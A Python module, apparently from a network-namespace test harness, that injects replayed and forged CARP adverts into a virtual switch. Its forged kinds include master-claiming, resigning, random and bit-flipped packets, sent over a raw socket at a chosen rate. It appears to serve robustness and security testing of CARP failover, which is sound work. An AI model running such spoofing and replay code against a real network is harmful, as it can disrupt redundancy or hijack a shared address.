"""An attacker in the group: sends recorded and forged adverts into the switch, to every port.

Run in the switch's namespace: ``python -m netns.inject replay PCAP MAC BRIDGE_INDEX`` re-sends every advert of
a capture that came from that MAC, as fast as it can, in order; ``python -m netns.inject forge KIND SOURCE VHID
COUNT PER_SECOND [PCAP]`` sends forged ones. Kinds: ``claim`` (best advbase and advskew, a digest of random
bytes), ``resign`` (255/255, likewise), ``random`` (random bytes of any length), ``mutated`` (recorded adverts
with one bit flipped). Source: FreeBSD's ip_carp.h.
"""

import random
import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Final

from netns.capture import read_file
from netns.topology import BRIDGE

GROUP: Final = "224.0.0.18"
_GROUP_MAC: Final = bytes.fromhex("01005e000012")
_ATTACKER_MAC: Final = bytes.fromhex("02005e1000ee")
_COOKED_BYTES: Final = 20
_COOKED_PROTOCOL_IPV4: Final = b"\x08\x00"
_CARP_PROTOCOL: Final = 112
_PAYLOAD_BYTES_MAX: Final = 600
KINDS: Final = ("claim", "resign", "random", "mutated")


def checksum(data: bytes) -> int:
    """Return the internet checksum of *data* (RFC 1071)."""
    padded = data + b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(source: str, payload: bytes) -> bytes:
    """Return an IPv4 packet of protocol 112 to the CARP group, with TTL 255."""
    fields = (0x45, 0xC0, 20 + len(payload), 0, 0, 255, _CARP_PROTOCOL, 0)
    header = struct.pack("!BBHHHBBH", *fields) + socket.inet_aton(source) + socket.inet_aton(GROUP)
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def forged_advert(vhid: int, advbase: int, advskew: int, source: random.Random) -> bytes:
    """Return a CARP advert that is right in everything but its digest."""
    head = struct.pack("!BBBBBBH", 0x21, vhid, advskew, 7, 0, advbase, 0)
    body = source.randbytes(8 + 20)
    return head[:6] + struct.pack("!H", checksum(head + body)) + body


def recorded(pcap: Path, bridge_index: int, mac: bytes | None = None) -> list[bytes]:
    """Return the IP packets of the adverts in a capture, of one sender or of all."""
    packets = []
    for _stamp, frame in read_file(pcap, bridge_index):
        packet = frame[_COOKED_BYTES:]
        is_advert = frame[:2] == _COOKED_PROTOCOL_IPV4 and len(packet) > 20 and packet[9] == _CARP_PROTOCOL  # noqa: PLR2004
        if is_advert and mac in (None, frame[12:18]):
            packets.append(packet)
    return packets


def maker(kind: str, source: str, vhid: int, pcap: Path | None, chance: random.Random) -> Callable[[], bytes]:
    """Return what makes the next forged packet of a kind."""
    match kind:
        case "claim":
            return lambda: ipv4(source, forged_advert(vhid, 0, 0, chance))
        case "resign":
            return lambda: ipv4(source, forged_advert(vhid, 255, 255, chance))
        case "random":
            return lambda: ipv4(source, chance.randbytes(chance.randint(0, _PAYLOAD_BYTES_MAX)))
        case "mutated" if pcap is not None:
            known = [packet[20:] for packet in recorded(pcap, 0)]
            return lambda: ipv4(source, _flip(chance.choice(known), chance))
        case _:
            raise SystemExit(f"no such kind, or no capture given for it: {kind}")


def _flip(payload: bytes, chance: random.Random) -> bytes:
    bit = chance.randrange(len(payload) * 8)
    changed = bytearray(payload)
    changed[bit // 8] ^= 1 << bit % 8
    return bytes(changed)


def _send(packets: Callable[[], bytes | None], per_second: float, mac: bytes) -> int:
    head = _GROUP_MAC + mac + _COOKED_PROTOCOL_IPV4
    began = time.monotonic()
    sent = lost = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as port:
        port.bind((BRIDGE, 0))
        while (packet := packets()) is not None:
            try:
                port.send(head + packet)
                sent += 1
            except OSError:
                lost += 1
            ahead_s = (sent + lost) / per_second - (time.monotonic() - began)
            if ahead_s > 0:
                time.sleep(ahead_s)
    print(f"sent {sent}, not taken {lost}, in {time.monotonic() - began:.2f} s")
    return sent


def main(arguments: list[str]) -> None:
    """Send what the module's text says."""
    verb, *rest = arguments
    if verb == "replay":
        mac = bytes.fromhex(rest[1].replace(":", ""))
        queue = iter(recorded(Path(rest[0]), int(rest[2]), mac))
        _send(lambda: next(queue, None), 1000.0, mac)
        return
    kind, source, vhid, count, per_second, *pcap = rest
    make = maker(kind, source, int(vhid), Path(pcap[0]) if pcap else None, random.Random(kind))  # noqa: S311 - no secret
    remaining = iter(range(int(count)))
    _send(lambda: make() if next(remaining, None) is not None else None, float(per_second), _ATTACKER_MAC)


if __name__ == "__main__":
    main(sys.argv[1:])
